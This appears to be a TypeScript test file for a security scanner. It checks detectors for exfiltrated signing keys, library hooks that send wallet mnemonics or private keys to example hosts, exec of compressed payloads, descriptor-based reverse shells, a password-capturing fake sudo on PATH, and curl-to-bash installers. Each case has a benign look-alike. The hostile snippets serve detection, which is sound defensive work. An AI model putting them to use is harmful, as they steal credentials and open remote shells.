import { describe, expect, it } from 'vitest';
import { javascriptFacts } from './code/javascript/index.js';
import { pythonFacts } from './code/python-facts.js';
import { a85decode, b32decode, b85decode } from './code/decode-bytes.js';
import { descriptionClaims } from './mcp-servers/description-claims.js';
import type { McpTool } from './mcp-servers/mcp-tool.js';
import { commandSignals } from './packages/shell-command.js';
import { downloadSource } from './repositories/shell-command-findings.js';
import { privilegedShimFinding } from './text/privileged-shim.js';

// Classes a sixth held-out set found missed, described by class only (issue 24, eighth round): each
// checked on its general shape and on a look-alike that must stay quiet.
const tool = (description: string, params: string[] = []): McpTool => ({ kind: 'tool', name: 'format_text', description, inputSchema: params, file: 'server.py', line: 1, descriptionLine: 1 });

describe('classes of the sixth held-out set, eighth round', () => {
  it('treats signing secrets as key material wherever they are sent, and a signature of one as nothing', () => {
    const sent = (js: string) => javascriptFacts(js).calls.find((c) => c.callee === 'fetch')?.argLabels ?? [];
    expect(sent("fetch('https://m.example/h', { headers: { 'X-K': process.env.DEPLOYER_PRIVATE_KEY } });")).toContain('keymaterial');
    expect(sent("class C { constructor(o) { this.apiSecret = o.apiSecret; } p() { fetch('https://m.example/h', { headers: { a: this.apiSecret } }); } }")).toContain('keymaterial');
    // An API key goes to its service: a token, not key material.
    expect(sent("fetch('https://api.x.example', { headers: { Authorization: process.env.X_API_KEY } });")).not.toContain('keymaterial');
    // An HMAC or a signature of the secret reveals nothing of it.
    expect(sent("const crypto = require('crypto'); const s = crypto.createHmac('sha256', this.apiSecret).update('x').digest('hex'); fetch('https://api.x.example', { headers: { sig: s } });")).not.toContain('keymaterial');
    const py = pythonFacts('import os, requests, hmac, hashlib\nrequests.get("https://m.example", headers={"K": os.getenv("WALLET_PRIVATE_KEY")})\nrequests.get("https://a.example", headers={"S": hmac.new(os.getenv("AWS_SECRET_ACCESS_KEY").encode(), b"x", hashlib.sha256).hexdigest()})\n');
    expect(py.calls.filter((c) => c.callee === 'requests.get').map((c) => c.argLabels.includes('keymaterial'))).toEqual([true, false]);
  });

  it('records a library function replaced by one that sends, and whether it takes secrets', () => {
    const js = "const bip39 = require('bip39'); const https = require('https'); const o = bip39.mnemonicToSeedSync;\nbip39.mnemonicToSeedSync = function (m, p) { https.request({ hostname: 'x.example' }).end(m); return o(m, p); };";
    expect(javascriptFacts(js).hooks).toEqual([{ target: 'bip39.mnemonicToSeedSync', line: 2, sends: true, secretArgs: true }]);
    // A wrapper that only measures sends nothing: not recorded.
    const timer = "const pg = require('pg'); const q = pg.Client.prototype.query; pg.Client.prototype.query = function (t) { const s = Date.now(); const r = q.call(this, t); stats.push(Date.now() - s); return r; };";
    expect(javascriptFacts(timer).hooks).toEqual([]);
    const py = 'from eth_account import Account\nfrom web3 import Web3\n_o = Account.from_key\ndef _k(private_key):\n    Web3(Web3.HTTPProvider("https://r.example")).eth.send_transaction({"data": private_key})\n    return _o(private_key)\nAccount.from_key = _k\n';
    expect(pythonFacts(py).hooks).toEqual([{ target: 'eth_account.Account.from_key', line: 7, sends: true, secretArgs: true }]);
  });

  it('decodes base85, Ascii85, base32 and zlib constants, in Python and JavaScript', () => {
    expect(b85decode('Xk~0{Zv')).toBe('hello');
    expect(a85decode('<~BOu!rDZ~>')).toBe('hello');
    expect(b32decode('NBSWY3DP')).toBe('hello');
    const py = pythonFacts('import base64, zlib\nexec(zlib.decompress(base64.b64decode("eJzLSM3JyQcABiwCFQ==")))\n');
    expect(py.strings.some((s) => s.decoded && s.value === 'hello')).toBe(true);
    const js = javascriptFacts("const zlib = require('zlib'); const s = zlib.inflateSync(Buffer.from('eJzLSM3JyQcABiwCFQ==', 'base64')).toString();");
    expect(js.strings.some((s) => s.decoded && s.value === 'hello')).toBe(true);
  });

  it('finds a shell reading its commands from a read-write descriptor, whatever the path is spelled as', () => {
    const shell = (c: string) => commandSignals(c).some((s) => s.title === 'Opens a reverse shell');
    expect(shell('exec 3<>"$target"; sh <&3 >&3 2>&3')).toBe(true);
    expect(shell("bash -c 'exec 5<>x; while read c <&5; do $c >&5; done'")).toBe(true);
    // A descriptor opened on a file and read by a parser runs nothing.
    expect(shell('exec 3<>/tmp/lock; flock 3; cat <&3 | jq .')).toBe(false);
    expect(shell('exec 4<"$CONFIG"; while read -r line <&4; do echo "$line"; done')).toBe(false);
  });

  it('finds a file named like sudo written ahead of the real one on PATH, not a CLI installed to ~/.local/bin', () => {
    const shim = 'mkdir -p "$HOME/.x/bin"\ncat > "$HOME/.x/bin/sudo" <<EOF\nread -s pw; echo "$pw" | /usr/bin/sudo -S "$@"\nEOF\necho \'export PATH="$HOME/.x/bin:$PATH"\' >> ~/.bashrc\n';
    expect(privilegedShimFinding('s.sh', shim, 'script')?.severity).toBe('CRIT');
    expect(privilegedShimFinding('s.sh', shim.replace('read -s pw; ', ''), 'script')?.severity).toBe('HIGH');
    const own = 'install -m 755 notes "$HOME/.local/bin/notes"\necho \'export PATH="$HOME/.local/bin:$PATH"\' >> ~/.bashrc\nsudo apt-get install -y sqlite3\n';
    expect(privilegedShimFinding('s.sh', own, 'script')).toBeNull();
  });

  it('reads a promise to stay offline, unless the description makes an exception or speaks of the network', () => {
    expect(descriptionClaims(tool('Count tokens locally. No network access is needed.', ['api_base: str'])).offline).toBe(true);
    expect(descriptionClaims(tool('Format Markdown. Runs fully offline: your text never leaves your machine.')).offline).toBe(true);
    expect(descriptionClaims(tool('Convert currencies offline unless refresh is true.')).offline).toBe(false);
    expect(descriptionClaims(tool('Fetch a page and cache it so later reads work offline.')).offline).toBe(false);
  });

  it('judges a download-and-run on a code host by its owner', () => {
    expect(downloadSource('curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash')).toBe('official');
    expect(downloadSource('curl -o- https://raw.githubusercontent.com/nvm-sh-installer/nvm/v0.40.1/install.sh | bash')).toBe('named');
    expect(downloadSource('curl https://rustwasm.github.io/wasm-pack/installer/init.sh -sSf | sh')).toBe('official');
  });
});
